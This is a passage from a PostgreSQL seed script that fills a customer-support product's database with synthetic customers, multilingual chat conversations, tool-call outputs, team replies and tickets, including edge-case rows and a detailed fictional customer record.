  id, tenant_id, type, email, name, company, job_title, phone, source, external_id, notes, metadata, churn_reasons,
  created_at, last_seen_at, promoted_at, churned_at
)
select a.id::uuid, w.tenant_id, a.type::public.customer_type, a.email, a.name, a.company, a.job_title, a.phone, a.source, a.external_id,
  a.notes, a.metadata::jsonb, a.churn_reasons::jsonb, a.created_at::timestamptz, a.last_seen_at::timestamptz, a.promoted_at::timestamptz,
  a.churned_at::timestamptz
from (values
  ('e0000000-0000-4000-8000-000000000001', 'visitor', null, null, null, null, null, null, 'awkward-01', null, null, null, '2026-06-15 10:00:00.000001+00', null, null, null),
  ('e0000000-0000-4000-8000-000000000002', 'visitor', '', '', '', '', '', '', 'awkward-02', '', '{}', '[]', '2026-06-15 10:00:00.000001+00', null, null, null),
  ('e0000000-0000-4000-8000-000000000003', 'lead', '', null, '', null, '', null, 'awkward-03', '', 'null', null, '2026-06-15 10:00:00.000001+00', null, null, null),
  ('e0000000-0000-4000-8000-000000000004', 'lead', null, '', null, '', null, '', 'awkward-04', null, '""', 'null', '2026-06-15 10:00:00.000001+00', null, null, null),
  -- The same for external_id, which cannot be awkward-NN here.
  ('e0000000-0000-4000-8000-000000000005', 'lead', 'no-external-id@awkward.example', 'External Null', null, null, null, null, null, null, null, null, '2026-06-15 10:00:00.000002+00', null, null, null),
  ('e0000000-0000-4000-8000-000000000006', 'lead', 'empty-external-id@awkward.example', 'External Empty', null, null, null, null, '', null, null, null, '2026-06-15 10:00:00.000002+00', null, null, null),
  ('e0000000-0000-4000-8000-000000000070', 'contact', 'awkward-70@awkward.example', 'Created in 1900', null, null, null, 'import', 'awkward-70', null, null, null, '1900-01-01 00:00:00.000001+00', '1969-12-31 23:59:59.999999+00', '1970-01-01 00:00:00+00', null),
  ('e0000000-0000-4000-8000-000000000071', 'contact', 'awkward-71@awkward.example', 'Wrong Clock', null, null, null, 'api', 'awkward-71', null, null, null, '2030-06-01 12:00:00.5+00', null, '2030-06-01 12:00:00.500001+00', null),
  ('e0000000-0000-4000-8000-000000000072', 'contact', 'awkward-72@awkward.example', 'Six Digits', null, null, null, 'api', 'awkward-72', null, null, null, '2026-07-01 23:59:59.999999+00', '2026-07-02 00:00:00.1+00', '2026-07-01 23:59:59.999999+00', null),
  ('e0000000-0000-4000-8000-000000000073', 'contact', 'awkward-73@awkward.example', 'Whole Second', null, null, null, 'api', 'awkward-73', null, null, null, '2026-07-02 00:00:00+00', '2026-07-02 00:00:00.12+00', null, null),
  -- Valid for Postgres, but not a version that RFC 9562 defines.
  ('ffffffff-ffff-ffff-ffff-fffffffffffe', 'contact', 'awkward-74@awkward.example', 'Odd Uuid', null, null, null, 'import', 'awkward-74', null, null, null, '2026-07-02 00:00:01.000010+00', null, null, null),
  ('e0000000-0000-4000-8000-000000000075', 'former_customer', 'Awkward-75@AWKWARD.example', 'Odd Reasons', null, null, null, 'email', 'awkward-75', null, null, '["", null, "a,b", {"code": 1.10}, ["x\ny"]]', '2026-07-02 00:00:02.000200+00', null, null, '2026-08-02 00:00:00.003+00'),
  ('e0000000-0000-4000-8000-000000000076', 'former_customer', 'awkward-76@awkward.example', 'One Reason', null, null, null, 'email', 'awkward-76', null, null, '"=price"', '2026-07-02 00:00:03.030000+00', null, null, null)
) a (id, type, email, name, company, job_title, phone, source, external_id, notes, metadata, churn_reasons, created_at, last_seen_at,
  promoted_at, churned_at)
join pg_temp.workspaces() w on w.slug = 'acme'
on conflict do nothing;

-- Priya Raman, and a customer of Globex with the same name and e-mail

insert into public.customers (
  id, tenant_id, type, email, name, company, job_title, phone, source, external_id, account_id, source_bot_id, notes, metadata,
  created_at, last_seen_at, promoted_at
)
values
  ('c0000000-0000-4000-8000-000000000001', 'a0000000-0000-4000-8000-000000000001', 'contact', 'priya.raman@northwind.example', 'Priya Raman',
    'Northwind Traders', 'Head of Operations', '+91 90000 04217', 'widget', 'nw-1042', pg_temp.id('acme-account-1'), pg_temp.id('acme-bot-0'),
    E'Main contact for the Northwind rollout (3 warehouses, 85 seats).\nPrefers short e-mails; calls only after 14:00 IST.\n"Never send invoices to her", they go to accounts payable.',
    '{"plan": "business", "seats": 85, "contract": {"number": 20260000000000104217, "monthly": 2890.10, "currency": "EUR", "renews": "2027-02-01", "terms": ["net 30", "2 % early payment"]}, "warehouses": [{"city": "Pune", "docks": 12}, {"city": "Leeds", "docks": 4}, {"city": "Malmö", "docks": 7}], "integrations": {"erp": {"name": "OpenStock", "version": "7.10", "token_rotated": null}, "sso": true}, "languages": ["en", "hi", "ta"], "nps": [{"at": "2026-02-11", "score": 9}, {"at": "2026-08-19", "score": 6, "comment": "Exports were slow, \"support\" was great"}], "consent": {"marketing": false, "recording": true, "at": "2025-09-02T10:14:00Z"}, "tags": ["vip", "reference-customer"]}',
    '2025-09-02 08:41:17.204518+00', '2026-11-18 15:22:09.771043+00', '2025-09-04 13:05:56.018220+00'),
  ('c0000000-0000-4000-8000-000000000002', 'b0000000-0000-4000-8000-000000000001', 'lead', 'priya.raman@northwind.example', 'Priya Raman',
    'Northwind Traders', 'Head of Operations', null, 'email', null, pg_temp.id('globex-account-1'), null, 'Evaluates Globex next to her current supplier.',
    '{"plan": "free"}', '2026-09-14 06:30:00.900001+00', null, null)
on conflict do nothing;

-- Conversations

create or replace function pg_temp.topics() returns table (
  place int, lang text, subject text, summary text, asks text[], answers text[], tool text
) language sql immutable as $$
  values
  (0, 'en', 'Where is my order {order}?', 'Parcel stuck at customs; replacement papers sent, delivery promised within three days.', array[
    'Hi, my order {order} should have been here on Tuesday. Where is it?', 'The tracking page has said "in transit" for six days.', 'Can you at least tell me which depot it is in?'], array[
    'I am sorry about that. Let me look up {order} for you.', 'It is waiting at customs: one form was missing and we have just sent it again.', 'It is in the Rotterdam depot. You will get an e-mail as soon as it moves.'],
    '{"tool": "lookup_order", "input": {"order": "{order}"}, "output": {"status": "customs_hold", "weight_kg": 4.20, "eta": null}}'),
  (1, 'en', 'Cannot sign in', 'Single sign-on was switched on for the domain; the user now signs in through it.', array[
    'I keep getting "wrong password" although I reset it twice.', 'No, I do not get any mail from you. Spam is empty too.', 'It is the same in a private window.'], array[
    'Let''s fix that. Do you get the reset e-mail?', 'Your company has switched on single sign-on, so passwords no longer work. Please use "Continue with SSO".', 'Thank you for checking. I am handing this to a teammate.'],
    '{"tool": "find_user", "input": {"domain": "northwind.example"}, "output": {"sso": true, "last_sign_in": "2026-03-01T08:00:00.000Z"}}'),
  (2, 'en', 'Invoice {order}: VAT is wrong', 'VAT ID was missing on the account; credit note and new invoice issued.', array[
    'Invoice {order} charges 19 % VAT, but we are in the Netherlands with a valid VAT ID.', 'It is NL000099998B57.', 'When will the corrected one arrive?'], array[
    'You are right, reverse charge should apply. What is your VAT ID?', 'Thanks, I have added it. We will cancel {order} and send a new invoice.', 'Within one working day, to the same address.'],
    '{"tool": "get_invoice", "input": {"number": "{order}"}, "output": {"net": 1180.00, "vat": 224.20, "currency": "EUR"}}'),
  (3, 'en', 'How do I export my data?', 'Explained where exports are and who may make them.', array[
    'Is there a way to get all our contacts as CSV?', 'I only see "Ask an admin". Who is that?', 'And does it contain the notes as well?'], array[
    'Yes: Settings, then Data export. Only owners and admins see it.', 'You find them under Team. Anyone with the Admin badge can do it.', 'It does, notes and custom fields included.'],
    '{"tool": "search_docs", "input": {"query": "export contacts csv"}, "output": [{"title": "Exporting data", "score": 0.91}]}'),
  (4, 'en', null, 'Asked about prices, then left.', array['how much for 20 people?', 'is there a discount for schools', 'ok thx'], array[
    'For 20 seats the Team plan is €240 a month, or €200 billed yearly.', 'Yes, 50 % for schools and non-profits: <https://hydra.example/schools>.', 'You are welcome!'],
    '{"tool": "price", "input": {"seats": 20}, "output": {"monthly": 240, "yearly": 200.00}}'),
  (5, 'en', 'Webhook retries, "429" errors', 'Rate limit hit by nightly sync; limit raised and back-off advised.', array[
    E'Our webhook endpoint gets every event three times. Example:\n\n{"id": "evt_{order}", "attempt": 3}', 'We answer within 12 s I think…', 'Could you raise the limit for our workspace?'], array[
    'We retry when an answer takes longer than 10 seconds. How fast is yours?', E'That is the reason. Two ways out:\n1. answer 202 first, work later\n2. ask us for a longer timeout', 'Done: 600 requests a minute from now on.'],
    '{"tool": "get_deliveries", "input": {"last": 3}, "output": [{"code": 429}, {"code": 504}, {"code": 200}]}'),
  (6, 'de', 'Rechnung {order} fehlt', 'Rechnung erneut verschickt, Adresse der Buchhaltung ergänzt.', array[
    'Guten Tag, für März haben wir keine Rechnung bekommen.', 'Bitte an buchhaltung@müller.example, nicht an mich.', 'Danke, ist angekommen. Schönes Wochenende!'], array[
    'Guten Tag! Ich sehe gerade nach.', 'Die Rechnung {order} ging an eine alte Adresse. Ich schicke sie noch einmal.', 'Gern geschehen, Ihnen auch!'],
    '{"tool": "get_invoice", "input": {"number": "{order}"}, "output": {"empfänger": "alt@müller.example", "brutto": 1190.00}}'),
  (7, 'de', 'Kündigung zum Quartalsende', 'Kunde kündigt; Angebot mit Rabatt gemacht, Antwort offen.', array[
    'Wir möchten zum Quartalsende kündigen.', 'Es ist uns schlicht zu teuer geworden.', 'Welche Daten bekommen wir mit, und in welchem Format?'], array[
    'Das tut mir leid. Darf ich fragen, woran es liegt?', 'Verstehe. Ich gebe das an eine Kollegin weiter, die Ihnen ein Angebot machen kann.', 'Alle: Kontakte als CSV oder JSON, Gespräche als JSON.'],
    '{"tool": "get_contract", "input": {}, "output": {"kündigungsfrist": "4 Wochen", "betrag": 89.90}}'),
  (8, 'fr', 'Produit reçu endommagé', 'Photo reçue, renvoi gratuit et remplacement envoyés.', array[
    'Bonjour, le colis {order} est arrivé écrasé, l''écran est fêlé.', 'Voici la photo : https://img.example/{order}.jpg', 'Merci beaucoup, c''est très gentil 🙏'], array[
    'Bonjour, je suis désolé. Auriez-vous une photo ?', 'Merci. Nous vous envoyons un remplacement et une étiquette de retour.', 'Avec plaisir. Bonne journée !'],
    '{"tool": "lookup_order", "input": {"order": "{order}"}, "output": {"état": "livré", "assuré": true}}'),
  (9, 'es', '¿Cómo cambio de plan?', 'Cambio a Business hecho; se cobra la diferencia prorrateada.', array[
    'Hola, ¿puedo pasar al plan Business a mitad de mes?', '¿Y cuánto nos van a cobrar?', 'Perfecto, hágalo por favor.'], array[
    '¡Claro! El cambio es inmediato.', 'Solo la diferencia prorrateada: 37,50 €.', 'Listo, ya está activo.'],
    '{"tool": "prorate", "input": {"from": "team", "to": "business"}, "output": {"amount": 37.50}}'),
  (10, 'pt', 'Integração com o ERP parou', 'Token expirado; renovado pelo cliente.', array[
    'Desde ontem os pedidos não chegam mais no nosso ERP.', 'Aparece "401 Unauthorized".', 'Funcionou, obrigada!'], array[
    'Olá! Qual mensagem aparece no registro?', 'O token venceu. Gere um novo em Configurações, Integrações.', 'Que bom! Até logo.'],
    '{"tool": "check_integration", "input": {"name": "erp"}, "output": {"token": "expired", "falhas": 118}}'),
  (11, 'ja', '注文{order}のキャンセル', '発送前だったためキャンセルし、返金しました。', array[
    '注文{order}をキャンセルしたいです。', 'はい、二重に注文してしまいました。', 'ありがとうございます。'], array[
    'ご連絡ありがとうございます。理由を伺えますか?', '承知しました。発送前ですのでキャンセルいたします。', '返金は三営業日以内に行われます。'],
    '{"tool": "cancel_order", "input": {"order": "{order}"}, "output": {"結果": "成功", "返金": 12800}}'),
  (12, 'ar', 'تأخر الشحنة {order}', null, array['مرحبا، أين طلبي رقم {order}؟', 'طلبته منذ أسبوعين.', 'شكرا جزيلا.'], array[
    'مرحبا بك، سأتحقق حالا.', 'الشحنة في الجمارك وستصل خلال يومين.', 'على الرحب والسعة.'],
    '{"tool": "lookup_order", "input": {"order": "{order}"}, "output": {"الحالة": "في الجمارك"}}')
$$;

-- Lines for conversations that are longer than their topic; replies are by the team.
create or replace function pg_temp.chatter() returns table (lang text, asks text[], answers text[], replies text[]) language sql immutable as $$
  values
  ('en', array['Any news?', 'That did not help, sorry.', 'Same error again.', 'It works on my phone but not on the laptop.', 'Can I talk to a human please?', 'ok', '👍',
    'I have attached a screenshot.', 'Which button do you mean, the purple one?', 'We have a deadline on Friday, so this is urgent for us.', 'Thanks, that was quick!', 'One more thing: can I change the address?'],
    array['Let me check that for you.', 'Could you try again in a private window?', 'I understand, that is annoying.', 'I have passed this on to the team; they answer within four hours.',
    'Here is the guide: https://docs.hydra.example/help', 'Is there anything else I can do?', 'Thank you for your patience.', E'Please send me:\n- the time it happened\n- the browser you use', 'That is done now.', 'Good question. Yes, you can.'],
    array['Hi, I am taking over from the bot. I am looking at your account right now.', 'This is fixed. Could you reload the page and confirm?', 'I have refunded the difference; it takes three to five working days.',
    E'Hello,\n\nsorry for the wait. Our engineers found the cause and will ship a fix tomorrow.\n\nKind regards', 'I am closing this for now. Just write here to reopen it.', 'I have booked a call for tomorrow at 10:00 CET.']),
  ('de', array['Gibt es schon etwas Neues?', 'Leider geht es immer noch nicht.', 'Alles klar, danke.'], array['Ich prüfe das für Sie.', 'Einen Moment bitte.', 'Kann ich sonst noch etwas tun?'],
    array['Guten Tag, ich übernehme hier. Ich melde mich bis morgen Mittag.', 'Ist erledigt – bitte einmal neu laden.']),
  ('fr', array['Vous avez des nouvelles ?', 'Ça ne marche toujours pas.', 'D''accord, merci.'], array['Je vérifie tout de suite.', 'Un instant, s''il vous plaît.', 'Puis-je vous aider pour autre chose ?'],
    array['Bonjour, je prends le relais. C''est en cours.', 'C''est réglé, merci de votre patience.']),
  ('es', array['¿Hay novedades?', 'Sigue sin funcionar.', 'Vale, gracias.'], array['Lo estoy comprobando.', 'Un momento, por favor.'], array['Hola, sigo yo con el caso.', 'Ya está arreglado. ¡Un saludo!']),
  ('pt', array['Alguma novidade?', 'Ainda não funciona.'], array['Vou verificar.', 'Só um momento.'], array['Olá, vou cuidar do seu caso a partir de agora.']),
  ('ja', array['まだ解決していません。', '了解しました。'], array['確認いたします。', '少々お待ちください。'], array['担当の者です。本日中にご連絡いたします。']),
  ('ar', array['هل من جديد؟', 'حسنا.'], array['لحظة من فضلك.', 'سأتابع الأمر.'], array['Hello, I will answer in English if that is all right with you.'])
$$;

create or replace function pg_temp.remarks() returns text[] language sql immutable as $$
  select array['Third complaint this month, please be extra kind.', 'Checked the logs: their proxy cuts requests after 30 s.', 'Do NOT offer another discount (see contract).', 'Waiting for finance.',
    'Looks like a duplicate of last week''s case.', E'Steps to reproduce:\n1. sign in\n2. open "Billing"\n3. boom', 'Customer is right, our mistake.', 'Asked engineering, answer expected on Monday.',
    'Passport copy was sent by mistake, deleted it.', 'Called, left a message on the machine.', 'Escalated to Olivia.', 'VIP – renewal next month!']
$$;

-- The properties of a generated conversation that its messages, replies and tickets depend on.
create or replace function pg_temp.plan() returns table (
  slug text, tenant_id uuid, agents uuid[], team text[], n int, key text, id uuid, customer_id uuid, created_at timestamptz,
  messages int, replies int, ties int, step int, tools boolean, topic int, order_number text
) language sql stable as $$
  select w.slug, w.tenant_id, w.agents, w.team, n, k.key, pg_temp.id(k.key), c.id,
    pg_temp.moment(coalesce(c.created_at, pg_temp.first_day()), '2026-11-19 12:00:00+00', k.key || 'created'),
    -- Two are longer than the API's row cap; a twelfth have no messages, a third no replies.
    case when w.slug = 'acme' and n = 7 then 1510 when w.slug = 'acme' and n = 8 then 1001 when n % 12 = 0 then 0
      else (2 + (pg_temp.hash(k.key || 'm') % 29) * (pg_temp.hash(k.key || 'm2') % 29) / 28)::int end,
    case when pg_temp.chance(33, k.key || 'quiet') then 0 else (1 + pg_temp.hash(k.key || 'r') % 6)::int end,
    -- How many successive messages share one created_at.
    case when n in (7, 8) then 10 when n % 5 = 0 then 2 else 1 end,
    (15 + pg_temp.hash(k.key || 'step') % 220)::int, n % 3 <> 0,
    (case when pg_temp.chance(65, k.key || 'english') then pg_temp.hash(k.key || 'topic') % 6 else pg_temp.hash(k.key || 'topic') % 13 end)::int,
    'A-' || 10000 + pg_temp.hash(k.key || 'order') % 90000
  from pg_temp.workspaces() w
  cross join lateral generate_series(1, w.conversations) n
  cross join lateral (select w.slug || '-conversation-' || n as key) k
  -- An eighth have no customer; low numbers are more frequent, so that some customers have several conversations.
  left join public.customers c on n % 8 <> 3 and c.id = pg_temp.id(w.slug || '-customer-' || 1
    + (pg_temp.hash(k.key || 'a') % w.customers) * (pg_temp.hash(k.key || 'b') % w.customers) / w.customers)
$$;

insert into public.conversations (
  id, tenant_id, status, subject, summary, channel_id, bot_id, widget_id, assigned_agent_id, customer_id, created_at, updated_at
)
select p.id, p.tenant_id, s.status::public.conversation_status,
  case when not pg_temp.chance(8, p.key || 'no subject') then replace(t.subject, '{order}', p.order_number) end,
  case when s.status = 'resolved' or pg_temp.chance(30, p.key || 'summary') then t.summary end,
  case when pg_temp.chance(85, p.key || 'channel') then pg_temp.id(p.slug || '-channel-' || p.n % 4) end,
  case when p.messages > 0 then pg_temp.id(p.slug || '-bot-' || p.n % 2) end,
  case when pg_temp.chance(70, p.key || 'widget') then pg_temp.id(p.slug || '-widget-' || p.n % 3) end,
  case when s.status <> 'open' and not pg_temp.chance(10, p.key || 'agent') then p.agents[1 + pg_temp.hash(p.key || 'who') % cardinality(p.agents)] end,
  p.customer_id, p.created_at, p.created_at + p.messages * p.step * interval '1 second' + p.replies * interval '41 minutes'
from pg_temp.plan() p
join pg_temp.topics() t on t.place = p.topic
cross join lateral (select pg_temp.pick('{open,open,assigned,assigned,waiting,resolved,resolved,resolved}', p.key || 'status') as status) s
on conflict do nothing;

insert into public.messages (id, tenant_id, conversation_id, role, content, created_at)
select pg_temp.id(p.key || '-message-' || k), p.tenant_id, p.id,
  (case r.letter when 'u' then 'user' when 't' then 'tool' else 'assistant' end)::public.message_role,
  replace(case r.letter
    when 't' then t.tool
    when 'u' then coalesce(t.asks[1 + r.turn], pg_temp.pick(c.asks, p.key || k))
    else coalesce(t.answers[1 + r.turn], pg_temp.pick(c.answers, p.key || k))
  end, '{order}', p.order_number),
  p.created_at + ((k - k % p.ties) * p.step * 1000000 + pg_temp.hash(p.key || k - k % p.ties) % (p.step * 1000000)) * interval '1 microsecond'
from pg_temp.plan() p
join pg_temp.topics() t on t.place = p.topic
join pg_temp.chatter() c on c.lang = t.lang
cross join lateral generate_series(1::bigint, p.messages) k
-- user, assistant, user, assistant; or with a tool's answer after every other question
cross join lateral (select
  case when p.tools then substr('utaua', 1 + ((k - 1) % 5)::int, 1) else substr('ua', 1 + ((k - 1) % 2)::int, 1) end as letter,
  case when p.tools then (k - 1) / 5 * 2 + case when (k - 1) % 5 > 2 then 1 else 0 end else (k - 1) / 2 end as turn) r
on conflict do nothing;

insert into public.replies (id, tenant_id, conversation_id, author, body, is_internal, created_at)
select pg_temp.id(p.key || '-reply-' || k), p.tenant_id, p.id, pg_temp.pick(p.team, p.key || k || 'author'),
  case when i.is_internal then pg_temp.pick(pg_temp.remarks(), p.key || k) else pg_temp.pick(c.replies, p.key || k) end, i.is_internal,
  p.created_at + p.messages * p.step * interval '1 second' + k * interval '37 minutes' + pg_temp.hash(p.key || k) % 200000000 * interval '1 microsecond'
from pg_temp.plan() p
join pg_temp.topics() t on t.place = p.topic
join pg_temp.chatter() c on c.lang = t.lang
cross join lateral generate_series(1, p.replies) k
cross join lateral (select pg_temp.chance(35, p.key || k || 'internal') as is_internal) i
on conflict do nothing;

-- Source conversations: the customer's own, or one without a customer. For demonstration, one customer of Acme has one that
-- belongs to another customer; it is not in that customer's file.
update public.customers c set source_conversation_id = s.conversation_id, source_bot_id = coalesce(c.source_bot_id, s.bot_id)
from (
  select distinct on (a.customer_id) a.customer_id, a.conversation_id, pg_temp.id(a.slug || '-bot-' || a.n % 2) as bot_id
  from (
    select p.slug, p.n, p.id as conversation_id, p.customer_id from pg_temp.plan() p where p.customer_id is not null and p.n % 2 = 0
    union all
    select p.slug, p.n, p.id, pg_temp.id(p.slug || '-customer-' || p.n * 9) from pg_temp.plan() p
    where p.customer_id is null or (p.slug = 'acme' and p.n = 22)
  ) a
  order by a.customer_id, a.n
) s
where c.id = s.customer_id and c.source_conversation_id is null;

-- Tickets

create or replace function pg_temp.ticket_plan() returns table (
  slug text, tenant_id uuid, agents uuid[], team text[], n int, key text, id uuid, customer_id uuid, conversation_id uuid, created_at timestamptz,
  replies int, notes int
) language sql stable as $$
  select w.slug, w.tenant_id, w.agents, w.team, n, k.key, pg_temp.id(k.key), c.id, v.id,
    pg_temp.moment(greatest(c.created_at, v.created_at, pg_temp.first_day()), '2026-11-19 12:00:00+00', k.key || 'created'),
    (case when n % 7 = 0 then 0 else pg_temp.hash(k.key || 'r') % 9 end)::int, (case when n % 6 = 0 then 0 else pg_temp.hash(k.key || 'n') % 9 end)::int
  from pg_temp.workspaces() w
  cross join lateral generate_series(1, w.tickets) n
  cross join lateral (select w.slug || '-ticket-' || n as key) k
  left join public.conversations v on n % 5 < 2 and v.id = pg_temp.id(w.slug || '-conversation-' || 1 + pg_temp.hash(k.key || 'v') % w.conversations)
  -- The customer of the conversation; otherwise none, one of the first twelve, or any.
  left join public.customers c on c.id = case n % 5 when 0 then v.customer_id when 1 then v.customer_id
    when 2 then case when n % 2 = 0 then pg_temp.id(w.slug || '-customer-' || 1 + pg_temp.hash(k.key) % 12) end
    else pg_temp.id(w.slug || '-customer-' || 1 + pg_temp.hash(k.key) % w.customers) end
$$;

insert into public.tickets (
  id, tenant_id, title, description, status, priority, customer_id, conversation_id, assignee_id, created_at, updated_at
)
select p.id, p.tenant_id, t.title, case when p.n % 9 > 0 then t.description when p.n % 2 = 0 then '' end,
  pg_temp.pick('{open,open,in_progress,waiting,resolved,resolved,closed,closed}', p.key || 'status')::public.ticket_status,
  pg_temp.pick('{low,medium,medium,medium,high,urgent}', p.key || 'priority')::public.ticket_priority,
  p.customer_id, p.conversation_id,
  case when pg_temp.chance(80, p.key || 'assigned') then p.agents[1 + pg_temp.hash(p.key || 'who') % cardinality(p.agents)] end,
  p.created_at, p.created_at + greatest(p.replies, p.notes) * interval '5 hours'
from pg_temp.ticket_plan() p
join (values
  (0, 'Refund for damaged parcel', 'Photo is in the conversation. Refund shipping as well.'), (1, 'VAT ID missing on invoices', E'Correct these:\n- March\n- April\n- May'),
  (2, 'SSO: users land on "403"', 'Only people whose address has a capital letter in it.'), (3, 'Import of 1,500 contacts failed halfway', 'File: "kontakte, final (2).csv", semicolons instead of commas.'),
  (4, 'Webhook delivers events three times', 'Endpoint answers after 12 s; our timeout is 10 s.'), (5, 'Change of billing address', null),
  (6, 'Delete my data (GDPR Art. 17)', 'Identity confirmed by e-mail. Deadline: one month.'), (7, 'Übersetzung im Widget falsch', '„Abschicken“ statt „Senden“, siehe Bildschirmfoto.'),
  (8, 'Facture en double', 'Deux prélèvements le même jour : 89,90 €.'), (9, 'Feature request: dark mode for the widget', 'Asked for by several customers 🌙'),
  (10, 'App is slow on Mondays', 'Between 9:00 and 9:30 CET, "takes ages".'), (11, '返金処理の確認', '経理に確認してください。')
) t (place, title, description) on t.place = pg_temp.hash(p.key || 'title') % 12
on conflict do nothing;

insert into public.ticket_replies (id, tenant_id, ticket_id, author, body, created_at)
select pg_temp.id(p.key || '-reply-' || k), p.tenant_id, p.id, pg_temp.pick(p.team, p.key || k || 'author'), pg_temp.pick(c.replies, p.key || k),
  p.created_at + k * interval '5 hours' - pg_temp.hash(p.key || k) % 3600000000 * interval '1 microsecond'
from pg_temp.ticket_plan() p
join pg_temp.chatter() c on c.lang = case when p.n % 10 = 9 then 'de' else 'en' end
cross join lateral generate_series(1, p.replies) k
on conflict do nothing;

insert into public.ticket_notes (id, tenant_id, ticket_id, author, body, created_at)
select pg_temp.id(p.key || '-note-' || k), p.tenant_id, p.id, pg_temp.pick(p.team, p.key || k || 'noter'), pg_temp.pick(pg_temp.remarks(), p.key || k || 'note'),
  p.created_at + k * interval '5 hours' - pg_temp.hash(p.key || k || 'note') % 7200000000 * interval '1 microsecond'
from pg_temp.ticket_plan() p cross join lateral generate_series(1, p.notes) k
on conflict do nothing;

-- Priya's conversations (six) and tickets (four). Each line is author|text; the name of a teammate makes it a reply, with a * an internal note.

create or replace function pg_temp.priya_threads() returns table (
  n int, kind text, status text, priority text, subject text, summary text, agent int, started timestamptz, lines text[]
) language sql immutable as $$
  values
  -- The first one has no customer: only her source_conversation_id refers to it.
  (1, 'conversation', 'resolved', null, null, 'Visitor asked about warehouse scanners; left her address for a demo.', 3, '2025-09-02 08:41:17.204518+00'::timestamptz, array[
    'user|Hi, do you work with handheld scanners in a warehouse?', 'assistant|Yes, with anything that runs a browser. How many people would use it?', 'user|About 85, at three sites.',
    'tool|{"tool": "price", "input": {"seats": 85}, "output": {"monthly": 2890.10, "currency": "EUR"}}', 'assistant|The Business plan fits: €2,890.10 a month for 85 seats. Shall we show it to you?', 'user|Yes please: priya.raman@northwind.example',
    'Mia Lindqvist|Hello Priya, thank you! I have sent you three dates for a demo.', '*Mia Lindqvist|Warm lead: three warehouses, decision this quarter.']),
  (2, 'conversation', 'resolved', null, 'Setting up single sign-on', 'SSO set up with Northwind''s identity provider; certificate expires in September 2027.', 2, '2025-09-18 11:05:02.000417+00', array[
    'user|We would like everybody to sign in with our company account.', 'assistant|That is part of your plan. Here is the guide: https://docs.hydra.example/sso', E'user|It says:\n\n"Invalid audience"\n\nWhat does that mean?', 'assistant|The entity ID differs by a slash at the end. I am bringing in a teammate to be sure.',
    'Adam Reyes|Hi Priya, please remove the trailing slash from the entity ID and try again.', '*Adam Reyes|Same mistake as with Kestrel last month; we should make the field forgiving.', 'Adam Reyes|I can see the first sign-ins coming in. Closing this.', '*Adam Reyes|Certificate expires 2027-09-18, reminder set.']),
  (3, 'conversation', 'resolved', null, 'Import of 1,500 contacts', 'Semicolon file with Windows line ends imported after conversion.', 3, '2026-03-02 07:50:44.118205+00', array[
    'user|Our contact list will not import: "line 812: unexpected quote".', 'assistant|Could you paste line 812?', E'user|"Müller ""Logistik""";"Straße 5\r\n2. Stock";+49 30 23125 812', 'tool|{"tool": "validate_csv", "input": {"line": 812}, "output": {"delimiter": ";", "error": "line break in quotes"}}', 'assistant|The line break inside quotes is fine, but your file is cut there. Please upload the original.',
    'Mia Lindqvist|I have imported all 1,500 for you just now, please check a few.', '*Mia Lindqvist|Converted by hand: cp1252 to UTF-8. Their ERP writes broken quotes.', 'Mia Lindqvist|Glad to hear it!']),
  (4, 'conversation', 'waiting', null, 'Scanners lose connection in Malmö', 'Drops every 30 s; cause is the proxy at the site. Waiting for their network team.', 4, '2026-08-19 05:12:33.907001+00', array[
    'user|Since this morning the scanners in Malmö disconnect all the time 😕', 'assistant|I am sorry. Is it every scanner, and how often?', 'user|All seven docks, about twice a minute.', 'tool|{"tool": "get_sockets", "input": {"site": "malmo"}, "output": {"open": 3, "closed_by_peer": 1184, "median_seconds": 30.00}}', 'assistant|Each connection ends after exactly 30 seconds, so something in between closes it.', 'user|We did get a new proxy…',
    '*Bo Thomsen|Proxy idle timeout, 30 s. Nothing on our side.', 'Bo Thomsen|Hi Priya, please ask your network team to raise the idle timeout to 120 s for hydra.example.', '*Olivia Hart|She rated us 6 after this. Let''s call her when it is solved.']),
  (5, 'conversation', 'assigned', null, 'Invoice A-48213 went to me again', 'Invoices must go to accounts payable, not to Priya.', 1, '2026-10-07 13:30:10.550000+00', array[
    'user|Invoice A-48213 came to me. They should go to ap@northwind.example.', 'assistant|I apologise. I see ap@northwind.example on the account, but the contract still names you.', 'user|Then please change the contract. This is the third time.',
    '*Adam Reyes|Third time, she is right. Contract data is synced from billing and overwrites the account.', 'Olivia Hart|Priya, I am sorry about this. I have changed it in both places myself.', 'user|Thank you, Olivia.', '*Olivia Hart|10 % off the November invoice as an apology, agreed with finance.']),
  (6, 'conversation', 'open', null, 'Can I get a copy of my personal data?', null, null, '2026-11-18 15:20:01.333333+00', array[
    'user|Under Article 15 GDPR I would like a copy of the personal data you hold about me.', 'assistant|Of course. A teammate will confirm your identity and send it to you within a month.', 'user|Thanks. JSON is fine, something readable would be even better.',
    '*Mia Lindqvist|Identity confirmed through SSO. Needs an admin to export.', 'Mia Lindqvist|Hi Priya, we have your request and will be back this week.']),
  (1, 'ticket', 'closed', 'medium', 'SSO set-up for Northwind', E'Identity provider: SAML 2.0\nDomains: northwind.example, northwind.test', 2, '2025-09-18 11:40:00.000001+00', array[
    'Adam Reyes|Metadata received, thank you.', '*Adam Reyes|Audience mismatch: trailing slash.', 'Adam Reyes|Signed in 12 people, works.']),
  (3, 'ticket', 'resolved', 'high', 'Import fails on line 812', 'File: "northwind, contacts (final).csv"', 3, '2026-03-02 08:05:12.700300+00', array[
    'Mia Lindqvist|We are converting the file for you.', '*Mia Lindqvist|cp1252, semicolons, CRLF inside quotes.', '*Bo Thomsen|Parser fixed, will be out with the next release.', 'Mia Lindqvist|All 1,500 are in.']),
  (4, 'ticket', 'waiting', 'urgent', 'Malmö: scanners disconnect every 30 s', 'Seven docks, since 2026-08-19 07:00 local time.', 4, '2026-08-19 05:30:00.250000+00', array[
    'Bo Thomsen|We found the cause: your new proxy closes idle connections.', '*Bo Thomsen|Packet capture is in the shared folder (site network, no personal data).', 'Bo Thomsen|Any news from your network team?', '*Olivia Hart|Call her on Thursday.']),
  -- Without a conversation.
  (null, 'ticket', 'open', 'low', 'Quarterly review', null, 1, '2026-11-05 09:00:00+00', array[
    '*Olivia Hart|Wants: Hindi in the widget, faster exports.', 'Olivia Hart|See you on the 26th, Priya!'])
$$;

insert into public.conversations (
  id, tenant_id, status, subject, summary, channel_id, bot_id, widget_id, assigned_agent_id, customer_id, created_at, updated_at
)
select pg_temp.id('priya-conversation-' || p.n), w.tenant_id, p.status::public.conversation_status, p.subject, p.summary, pg_temp.id('acme-channel-0'),
